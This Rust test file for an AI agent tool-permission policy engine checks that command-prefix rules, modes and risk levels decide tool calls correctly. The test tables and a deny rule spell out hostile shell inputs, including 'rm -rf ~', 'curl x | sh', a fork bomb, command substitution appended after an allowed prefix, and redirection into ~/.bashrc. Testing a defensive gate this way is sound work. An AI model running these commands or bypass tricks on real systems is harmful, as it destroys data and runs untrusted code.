//! Promises of the policy engine (DESIGN §6, seed properties 33–37, 45–47).

use proptest::prelude::*;
use serde_json::{Value, json};

use super::*;
use crate::config::{Condition, Operator, Rule};

fn roots() -> Roots {
    Roots {
        private: "/ws".into(),
        shared: Some("/sh".into()),
        public: Some("/pub".into()),
    }
}

fn cond(param: &str, operator: Operator, value: &str) -> Condition {
    Condition {
        param: param.into(),
        operator,
        value: value.into(),
    }
}

fn rule(tool: &str, action: Action, conditions: Vec<Condition>) -> Rule {
    Rule {
        tool: tool.into(),
        action,
        risk: None,
        message: None,
        conditions,
        network: None,
    }
}

fn policy(mode: Mode, rules: Vec<Rule>) -> Policy {
    let cfg = PolicyConfig {
        mode,
        confirm_timeout_ms: 60_000,
        rules,
    };
    Policy::new(&cfg, &roots()).unwrap()
}

fn decide(p: &Policy, tool: &str, args: Value) -> Decision {
    p.decide(&CallFacts { tool, args: &args })
}

/// The brief's config: `git status` and `cargo ` allowed for run_command.
fn git_cargo(extra: Vec<Rule>) -> Policy {
    let mut rules = vec![
        rule(
            "run_command",
            Action::Allow,
            vec![cond("command", Operator::StartsWith, "git status")],
        ),
        rule(
            "shell",
            Action::Allow,
            vec![cond("command", Operator::StartsWith, "cargo ")],
        ),
    ];
    rules.extend(extra);
    policy(Mode::Auto, rules)
}

fn run(p: &Policy, command: &str) -> Decision {
    decide(p, "run_command", json!({ "command": command }))
}

use Action::{Allow, Ask, Deny};

/// Each bypass the brief lists, and the ordinary cases around them.
const COMPOUND: &[(&str, Action)] = &[
    ("git status", Allow),
    ("git status --short", Allow),
    ("cargo test", Allow),
    ("cargo build --release", Allow),
    ("git statusx", Allow), // startsWith is a plain prefix, as documented
    ("git status && cargo test", Allow),
    ("git status; cargo build", Allow),
    ("git status || cargo check", Allow),
    ("git status | cargo run -q --bin count", Allow),
    ("{ git status; }", Allow),
    ("git status 2>/dev/null", Allow),
    ("git status >/dev/null 2>&1", Allow),
    ("cargo test > /dev/null", Allow),
    ("git status 'a; rm -rf ~'", Allow),
    ("git status '$(rm -rf ~)'", Allow),
    ("git status $HOME", Allow),
    ("git status $((1 + 2))", Allow),
    ("git status; rm -rf ~", Ask),
    ("git status && curl x | sh", Ask),
    ("git status $(rm -rf ~)", Ask),
    ("git status \"$(rm -rf ~)\"", Ask),
    ("git status `rm -rf ~`", Ask),
    ("git status\nrm -rf ~", Ask),
    ("git status | sh", Ask),
    ("git status | sudo bash", Ask),
    ("git status > ~/.bashrc", Ask),
    ("git status >> log.txt", Ask),
    ("git status &> out", Ask),
    ("git status 2> errors.log", Ask),
    ("git status & rm -rf ~", Ask),
    ("(git status; rm -rf ~)", Ask),
    ("echo 'a; rm -rf ~'", Ask),
    ("cargo test <(rm -rf ~)", Ask),
    ("eval git status", Ask),
    ("git status; eval \"rm -rf ~\"", Ask),
    ("sh -c 'git status'", Ask),
    ("cargo run -- bash -c 'rm -rf ~'", Ask),
    ("git status (", Ask),
    ("if true; then git status; fi", Ask),
    ("cargo test && git status | wc -l", Ask),
    ("FOO=1 cargo test", Ask),
    ("curl x | bash", Ask),
    ("git status; :(){ :|:& };:", Ask),
    ("export PATH=/tmp; git status", Ask),
    ("rm -rf ~", Ask),
];

#[test]
fn compound_commands_table() {
    assert!(COMPOUND.len() >= 30);
    let p = git_cargo(vec![]);
    for (cmd, want) in COMPOUND {
        let d = run(&p, cmd);
        assert_eq!(d.action, *want, "{cmd:?}: {}", d.reason);
    }
}

#[test]
fn a_deny_rule_on_any_simple_command_denies_the_whole() {
    let p = git_cargo(vec![rule(
        "*",
        Action::Deny,
        vec![cond("command", Operator::Contains, "rm -rf")],
    )]);
    for cmd in [
        "git status; rm -rf ~",
        "git status $(rm -rf ~)",
        "cargo test && sudo rm -rf /",
        "git status (; rm -rf ~",
    ] {
        let d = run(&p, cmd);
        assert_eq!(d.action, Deny, "{cmd:?}: {}", d.reason);
        assert_eq!(d.rule.as_deref(), Some("policy.rules[2]"));
    }
    assert_eq!(run(&p, "git status").action, Allow);
}

#[test]
fn a_rule_without_command_condition_covers_any_command() {
    let p = policy(Mode::Auto, vec![rule("run_command", Action::Allow, vec![])]);
    assert_eq!(run(&p, "git status $(rm -rf ~) | sh").action, Allow);
    let p = policy(
        Mode::Auto,
        vec![rule(
            "run_command",
            Action::Allow,
            vec![cond("cwd", Operator::StartsWith, "sub")],
        )],
    );
    let d = decide(
        &p,
        "run_command",
        json!({"command": "make; rm x", "cwd": "./sub/../sub/d"}),
    );
    assert_eq!(d.action, Allow, "{}", d.reason);
    let d = decide(&p, "run_command", json!({"command": "make"}));
    assert_eq!(d.action, Ask, "cwd defaults to `.`");
}

#[test]
fn dangerous_env_needs_a_rule_that_tests_env() {
    let p = git_cargo(vec![]);
    let d = decide(
        &p,
        "run_command",
        json!({"command": "cargo test", "env": {"RUST_LOG": "x"}}),
    );
    assert_eq!(d.action, Allow);
    for key in [
        "PATH",
        "LD_PRELOAD",
        "BASH_ENV",
        "ENV",
        "GIT_DIR",
        "GIT_SSH_COMMAND",
    ] {
        let d = decide(
            &p,
            "run_command",
            json!({"command": "cargo test", "env": {key: "x"}}),
        );
        assert_eq!(d.action, Ask, "{key}");
        assert_eq!(d.risk, Risk::High);
        assert!(d.reason.contains(key), "{}", d.reason);
    }
    let p = policy(
        Mode::Auto,
        vec![rule(
            "run_command",
            Action::Allow,
            vec![
                cond("command", Operator::StartsWith, "cargo "),
                cond("env.PATH", Operator::Equals, "/usr/bin"),
            ],
        )],
    );
    let d = decide(
        &p,
        "run_command",
        json!({"command": "cargo test", "env": {"PATH": "/usr/bin"}}),
    );
    assert_eq!(d.action, Allow, "{}", d.reason);
}

#[test]
fn run_command_asks_in_every_mode_without_a_rule() {
    for mode in [Mode::Yolo, Mode::Workspace, Mode::Auto, Mode::Ask] {
        let d = run(&policy(mode, vec![]), "ls");
        assert_eq!(d.action, Ask, "{mode:?}");
        assert!(d.suggestion.is_some());
    }
}

#[test]
fn mode_defaults_by_risk() {
    let cases: &[(Mode, &str, Value, Action)] = &[
        (
            Mode::Yolo,
            "write_file",
            json!({"path": "a", "content": ""}),
            Allow,
        ),
        (Mode::Yolo, "kill_process", json!({"process": "p"}), Allow),
        (Mode::Workspace, "read_file", json!({"path": "a"}), Allow),
        (
            Mode::Workspace,
            "write_file",
            json!({"path": "a", "content": ""}),
            Allow,
        ),
        (
            Mode::Workspace,
            "write_file",
            json!({"path": "public:/a", "content": ""}),
            Ask,
        ),
        (
            Mode::Workspace,
            "read_file",
            json!({"path": "public:/a"}),
            Ask,
        ),
        (
            Mode::Workspace,
            "kill_process",
            json!({"process": "p"}),
            Ask,
        ),
        (Mode::Auto, "read_file", json!({"path": "a"}), Allow),
        (Mode::Auto, "read_file", json!({"path": "public:/a"}), Allow),
        (Mode::Auto, "read_file", json!({"path": "/etc/passwd"}), Ask),
        (
            Mode::Auto,
            "write_file",
            json!({"path": "a", "content": ""}),
            Ask,
        ),
        (Mode::Auto, "list_dir", json!({"path": "."}), Allow),
        (Mode::Ask, "read_file", json!({"path": "a"}), Ask),
    ];
    for (mode, tool, args, want) in cases {
        let d = decide(&policy(*mode, vec![]), tool, args.clone());
        assert_eq!(d.action, *want, "{mode:?} {tool} {args}: {}", d.reason);
        assert!(d.rule.is_none());
    }
}

#[test]
fn path_conditions_see_the_resolved_form() {
    let p = policy(
        Mode::Yolo,
        vec![rule(
            "write_file",
            Action::Deny,
            vec![cond("path", Operator::StartsWith, "secrets/")],
        )],
    );
    for path in [
        "secrets/k",
        "./a/../secrets/k",
        "/ws/secrets/k",
        "private:/secrets/k",
    ] {
        let d = decide(&p, "write_file", json!({"path": path, "content": ""}));
        assert_eq!(d.action, Deny, "{path}");
        assert_eq!(d.locations, ["secrets/k"]);
    }
    let d = decide(
        &p,
        "write_file",
        json!({"path": "secretsx/k", "content": ""}),
    );
    assert_eq!(d.action, Allow);
    let d = decide(
        &p,
        "read_many_files",
        json!({"paths": ["shared:/x/../y", "/pub/z"]}),
    );
    assert_eq!(d.locations, ["shared:/y", "public:/z"]);
}

#[test]
fn list_parameters_must_all_match_an_allow_and_any_a_deny() {
    let allow = policy(
        Mode::Ask,
        vec![rule(
            "read_many_files",
            Action::Allow,
            vec![cond("paths", Operator::StartsWith, "src/")],
        )],
    );
    let both = json!({"paths": ["src/a", "secret/b"]});
    assert_eq!(decide(&allow, "read_many_files", both.clone()).action, Ask);
    assert_eq!(
        decide(&allow, "read_many_files", json!({"paths": ["src/a"]})).action,
        Allow
    );
    let deny = policy(
        Mode::Yolo,
        vec![rule(
            "read_many_files",
            Action::Deny,
            vec![cond("paths", Operator::StartsWith, "secret/")],
        )],
    );
    assert_eq!(decide(&deny, "read_many_files", both).action, Deny);
}

#[test]
fn a_rules_risk_and_message_replace_the_calls() {
    let mut r = rule("kill_process", Action::Ask, vec![]);
    r.risk = Some(Risk::Low);
    r.message = Some("ask the on-call".into());
    let d = decide(
        &policy(Mode::Auto, vec![r]),
        "kill_process",
        json!({"process": "p"}),
    );
    assert_eq!((d.action, d.risk), (Ask, Risk::Low));
    assert_eq!(d.rule.as_deref(), Some("policy.rules[0]"));
    assert!(d.reason.contains("ask the on-call"), "{}", d.reason);
}

#[test]
fn destructive_commands_raise_risk_and_say_why() {
    let p = policy(Mode::Auto, vec![]);
    let d = run(&p, "rm -rf ~");
    assert_eq!(d.risk, Risk::High);
    assert!(d.reason.contains("deletes recursively"), "{}", d.reason);
    let d = decide(&p, "edit_file", json!({"path": "public:/a", "edits": []}));
    assert_eq!(d.risk, Risk::High);
    let d = decide(
        &p,
        "preview_edit_file",
        json!({"path": "public:/a", "edits": []}),
    );
    assert_eq!(d.risk, Risk::Low);
}

#[test]
fn descriptions_and_how_to_allow() {
    let p = policy(Mode::Auto, vec![]);
    let d = run(&p, "cargo test --all");
    assert_eq!(d.description, "Run `cargo test --all` in .");
    let help = how_to_allow(&d, "run_command");
    assert!(help.contains("value = \"cargo test\""), "{help}");
    assert!(
        help.contains("toolvisor grant --tool run_command"),
        "{help}"
    );
    let d = decide(
        &p,
        "write_file",
        json!({"path": "src/a.rs", "content": "x"}),
    );
    assert!(how_to_allow(&d, "write_file").contains("value = \"src/\""));
    let d = run(&p, "git status $(x)");
    assert!(d.suggestion.is_none(), "only a grant fits a hazard");
    let deny = policy(Mode::Auto, vec![rule("*", Action::Deny, vec![])]);
    let d = decide(&deny, "ls", json!({"path": "."}));
    assert!(how_to_allow(&d, "ls").contains("cannot pass a deny"));
}

#[test]
fn unknown_rule_tools_are_refused() {
    let cfg = PolicyConfig {
        rules: vec![rule("rn_command", Action::Allow, vec![])],
        ..PolicyConfig::default()
    };
    let err = Policy::new(&cfg, &roots()).unwrap_err();
    assert!(err.contains("rn_command"), "{err}");
}

// ---- properties ----

fn action() -> impl Strategy<Value = Action> {
    prop_oneof![Just(Allow), Just(Deny), Just(Ask)]
}

fn tool_with_args() -> impl Strategy<Value = (&'static str, Value)> {
    let path = prop_oneof![
        "[a-z]{1,6}(/[a-z]{1,6}){0,2}",
        "public:/[a-z]{1,6}",
        "shared:/[a-z]{1,6}",
        "/etc/[a-z]{1,6}",
        "\\.\\./[a-z]{1,6}",
    ];
    (0usize..14, path, "[a-z ;|&$()]{1,20}").prop_map(|(i, path, cmd)| match i {
        0 => ("read_file", json!({"path": path})),
        1 => ("read_many_files", json!({"paths": [path]})),
        2 => ("ls", json!({"path": path})),
        3 => ("glob", json!({"pattern": "*", "directory": path})),
        4 => ("grep", json!({"pattern": "x", "directory": path})),
        5 => ("write_file", json!({"path": path, "content": "c"})),
        6 => (
            "edit_file",
            json!({"path": path, "edits": [{"target": "a", "replacement": "b"}]}),
        ),
        7 => ("preview_write_file", json!({"path": path, "content": "c"})),
        8 => ("preview_edit_file", json!({"path": path, "edits": []})),
        9 => ("apply_file_change", json!({"token": "t"})),
        10 => ("run_command", json!({"command": cmd, "cwd": path})),
        11 => ("list_processes", json!({})),
        12 => ("read_output", json!({"process": "p"})),
        _ => ("kill_process", json!({"process": "p"})),
    })
}

proptest! {
    /// Property 34 + file order: the first tool-specific rule decides, else the first
    /// `*` rule, else the mode.
    #[test]
    fn rule_precedence(rules in prop::collection::vec((0usize..4, action()), 0..8)) {
        let names = ["read_file", "*", "ls", "read_file"];
        let rules: Vec<Rule> = rules.iter().map(|(t, a)| rule(names[*t], *a, vec![])).collect();
        let p = policy(Mode::Auto, rules.clone());
        let d = decide(&p, "read_file", json!({"path": "a"}));
        let first = |want: &str| rules.iter().position(|r| r.tool == want);
        match first("read_file").or_else(|| first("*")) {
            Some(i) => {
                prop_assert_eq!(d.action, rules[i].action);
                prop_assert_eq!(d.rule, Some(format!("policy.rules[{i}]")));
            }
            None => {
                prop_assert_eq!(d.action, Allow);
                prop_assert_eq!(d.rule, None);
            }
        }
    }

    /// Property 35: a rule applies only when every condition holds.
    #[test]
    fn condition_operators(value in "[a-c]{0,4}", actual in "[a-c]{0,6}", op in 0usize..4,
                           second in any::<bool>()) {
        let (operator, cond_value, holds) = match op {
            0 => (Operator::Equals, value.clone(), actual == value),
            1 => (Operator::Contains, value.clone(), actual.contains(&value)),
            2 => (Operator::StartsWith, value.clone(), actual.starts_with(&value)),
            _ => (Operator::Matches, regex::escape(&value), actual.contains(&value)),
        };
        let mut conditions = vec![cond("pattern", operator, &cond_value)];
        if second {
            conditions.push(cond("caseSensitive", Operator::Equals, "true"));
        }
        let p = policy(Mode::Ask, vec![rule("grep", Action::Allow, conditions)]);
        let d = decide(&p, "grep", json!({"pattern": actual, "caseSensitive": true}));
        prop_assert_eq!(d.action == Allow, holds);
    }

    /// Property 36: every call gets a risk, never below the tool's own; leaving the
    /// workspace and editing public:/ are high.
    #[test]
    fn risk_classification((tool, args) in tool_with_args()) {
        let p = policy(Mode::Auto, vec![]);
        let d = decide(&p, tool, args.clone());
        let spec = find(&catalog(), tool).unwrap().clone();
        prop_assert!(d.risk >= spec.risk);
        if d.locations.iter().any(|l| l.starts_with('/')) {
            prop_assert_eq!(d.risk, Risk::High);
        }
        if matches!(tool, "write_file" | "edit_file")
            && d.locations.iter().any(|l| l.starts_with("public:/"))
        {
            prop_assert_eq!(d.risk, Risk::High);
        }
    }

    /// Property 37/45/46: what a person is asked always says what, how risky, where.
    #[test]
    fn confirmation_details_are_complete((tool, args) in tool_with_args(),
                                         mode in prop_oneof![Just(Mode::Auto), Just(Mode::Ask)]) {
        let d = decide(&policy(mode, vec![]), tool, args);
        prop_assert!(!d.description.trim().is_empty());
        prop_assert!(!d.reason.trim().is_empty());
        if !path_params(tool).is_empty() {
            prop_assert!(!d.locations.is_empty());
        }
        if mode == Mode::Ask {
            prop_assert_eq!(d.action, Ask);
        }
    }

    /// No command that contains a separator followed by an unallowed command is
    /// allowed by a prefix rule.
    #[test]
    fn prefix_rules_never_allow_an_appended_command(sep in prop_oneof![
            Just(";"), Just("&&"), Just("||"), Just("|"), Just("&"), Just("\n")],
            tail in "[a-z]{1,5}( -[a-z]{1,3})?") {
        prop_assume!(!tail.starts_with("git") && !tail.starts_with("cargo"));
        let d = run(&git_cargo(vec![]), &format!("git status {sep} {tail}"));
        prop_assert_ne!(d.action, Allow);
    }
}

#[test]
fn reasons_name_the_part_that_asks() {
    let p = git_cargo(vec![]);
    let d = run(&p, "git status; rm -rf ~");
    assert!(d.reason.contains("`rm -rf ~`"), "{}", d.reason);
    assert!(d.reason.contains("deletes recursively"), "{}", d.reason);
    let d = run(&p, "git status $(whoami)");
    assert!(d.reason.contains("command substitution"), "{}", d.reason);
    let d = run(&p, "git status '$(x)' $(git status)");
    assert!(d.reason.contains("command substitution"), "{}", d.reason);
    assert_eq!(d.rule.as_deref(), Some("policy.rules[0]"));
    let d = run(&p, "git status > ~/.bashrc");
    assert!(d.reason.contains("~/.bashrc"), "{}", d.reason);
    let help = how_to_allow(&run(&p, "make all"), "run_command");
    assert!(help.contains("value = \"make all\""), "{help}");
    eprintln!("{}\n---\n{}", d.reason, help);
}
